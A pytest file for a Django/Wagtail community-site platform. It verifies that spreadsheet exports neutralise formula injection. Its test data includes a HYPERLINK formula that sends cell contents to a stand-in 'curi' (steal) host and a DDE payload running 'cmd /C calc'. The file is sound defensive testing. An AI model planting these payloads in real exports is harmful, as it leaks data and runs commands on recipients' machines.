"""Every spreadsheet the platform writes keeps visitor and editor text from running as a formula.

Each export is fetched through its real admin URL or command, and every cell of the CSV or XLSX is
checked: none may start like a formula unless it carries the neutralising quote, and the hostile
value itself must be there, quoted.
"""

import csv
import io
from io import StringIO

import openpyxl
import pytest

from django.core.management import call_command
from django.urls import reverse

from wagtail.contrib.search_promotions.models import Query
from wagtail.models import Page

from kim_sites.models import Kim
from kim_sites.spreadsheets import neutralise_formula
from tests.factories.accounts import UserFactory, make_editor, make_moderator
from tests.factories.moderation import submit
from tests.factories.pages import make_post, section
from tests.factories.registry import make_kim

HYPERLINK = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, SUM, "+62 812 0000 1111", "-1+1", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")


# --- The shared function ------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_could_start_a_formula_gets_a_leading_quote(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Siti Rahma", "0812-0000-1111", "KIM Alpha", "", "'=sudah dikutip", "a=b"])
def test_ordinary_text_is_left_alone(value):
    assert neutralise_formula(value) == value


@pytest.mark.parametrize("value", [-5, 3, 2.5, None, True])
def test_typed_values_are_left_alone(value):
    assert neutralise_formula(value) is value


# --- Checking a whole spreadsheet ---------------------------------------------------------------


def csv_cells(response, delimiter=","):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter) for cell in row]


def xlsx_cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return xlsx_file_cells(io.BytesIO(body))


def xlsx_file_cells(stream):
    workbook = openpyxl.load_workbook(stream)
    # Wagtail names the sheet "Sheet1"; the platform names it in Indonesian (kim_sites/spreadsheets.py).
    assert [name for name in workbook.sheetnames if name.startswith("Sheet")] == [], workbook.sheetnames
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a cell is a formula"
    return [cell.value for cell in cells]


def assert_formula_free(cells, *expected):
    """No text cell starts like a formula, and each expected hostile value is there, quoted."""
    dangerous = [cell for cell in cells if isinstance(cell, str) and cell.lstrip(" ").startswith(STARTS)]
    assert dangerous == []
    for value in expected:
        assert "'" + value in cells


def export(client, url, fmt, delimiter=",", **params):
    response = client.get(url, {**params, "export": fmt})
    assert response.status_code == 200, (url, response.status_code)
    return csv_cells(response, delimiter) if fmt == "csv" else xlsx_cells(response)


# --- Aspirasi: visitor input, field labels typed by editors ---------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_aspirasi_submissions_export(client, fmt):
    kim = make_kim(name="KIM Ekspor")
    page = section(kim, "aspirasi")
    field = page.form_fields.get(clean_name="jenis")
    field.label = "=Jenis"  # a label an editor typed; it becomes a column heading
    field.save()
    for message in (HYPERLINK, SUM):
        response = client.post(
            "/aspirasi/",
            {
                "nama": "-Siti",
                "e_mail_atau_nomor_whatsapp": "+62 812 0000 1111",
                "jenis": "Pertanyaan",
                "pesan": message,
            },
            HTTP_HOST=kim.site.hostname,
            REMOTE_ADDR="203.0.113.10",
        )
        assert response.status_code == 200
    client.force_login(make_editor(kim))
    cells = export(client, f"/admin/forms/submissions/{page.pk}/", fmt)
    assert_formula_free(cells, HYPERLINK, SUM, "-Siti", "+62 812 0000 1111", "=Jenis")


# --- Kinerja: KIM names, districts and villages typed by officers ---------------------------------


@pytest.fixture
def hostile_kim(db):
    kim = make_kim("bangka", name="KIM Formula", district="+Kecamatan", village="@Desa")
    Kim.objects.filter(pk=kim.pk).update(name=HYPERLINK)
    return kim


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_kinerja_report_export(client, hostile_kim, fmt):
    client.force_login(make_moderator("bangka"))
    # The kinerja CSV is written for Indonesian-locale Excel: `;` between cells.
    cells = export(client, "/admin/kinerja/", fmt, delimiter=";")
    assert_formula_free(cells, HYPERLINK, "+Kecamatan", "@Desa")


def test_kim_report_command_excel_csv(hostile_kim):
    out = StringIO()
    call_command("kim_report", "--excel", stdout=out, stderr=StringIO())
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff")), delimiter=";") for cell in row]
    assert_formula_free(cells, HYPERLINK, "+Kecamatan", "@Desa")


def test_kim_report_command_csv(hostile_kim):
    out = StringIO()
    call_command("kim_report", "--format", "csv", stdout=out, stderr=StringIO())
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert_formula_free(cells, HYPERLINK, "+Kecamatan", "@Desa")


def test_kim_report_command_xlsx(hostile_kim, tmp_path):
    target = tmp_path / "kinerja.xlsx"
    call_command("kim_report", "--format", "xlsx", "--output", str(target), stdout=StringIO(), stderr=StringIO())
    with open(target, "rb") as stream:
        assert_formula_free(xlsx_file_cells(stream), HYPERLINK, "+Kecamatan", "@Desa")


# --- Import results: names from a spreadsheet someone else filled in ------------------------------


@pytest.mark.django_db
def test_import_results_file(tmp_path):
    source = tmp_path / "kim.csv"
    source.write_text(
        "name,regency,village,district,admin_email\n"
        '"=HYPERLINK(""http://contoh.invalid"")",bangka,@Desa Satu,-Kecamatan,admin@impor-formula.id\n',
        encoding="utf-8",
    )
    target = tmp_path / "hasil.csv"
    call_command("import_kims", str(source), "--no-email", "--output", str(target), stdout=StringIO())
    with open(target, encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert_formula_free(cells, '=HYPERLINK("http://contoh.invalid")')


# --- Wagtail's own reports and listings -------------------------------------------------------------


@pytest.fixture
def hostile_page(db):
    """A post titled like a formula, locked, in moderation, logged and searched for."""
    kim = make_kim(name="KIM Laporan")
    editor = make_editor(kim)
    post = make_post(kim, HYPERLINK, by=editor, live=False)
    submit(post, editor)
    make_post(kim, HYPERLINK)  # live, for the aging-pages report
    page = Page.objects.get(pk=post.pk)
    page.locked, page.locked_by = True, editor
    page.save()
    Query.get(SUM).add_hit()
    return page


REPORTS = [
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", REPORTS)
def test_wagtail_reports(client, hostile_page, name, fmt):
    client.force_login(UserFactory(email="admin@kominfo-uji.id", is_superuser=True))
    cells = export(client, reverse(name), fmt)
    assert_formula_free(cells)
    assert any(isinstance(cell, str) and cell.startswith("'=HYPERLINK") for cell in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_search_terms_report(client, hostile_page, fmt):
    # What visitors typed into the search box.
    client.force_login(UserFactory(email="admin@kominfo-uji.id", is_superuser=True))
    cells = export(client, reverse("wagtailsearchpromotions:search_terms"), fmt)
    assert_formula_free(cells, SUM.lower())  # Wagtail stores queries lower-cased
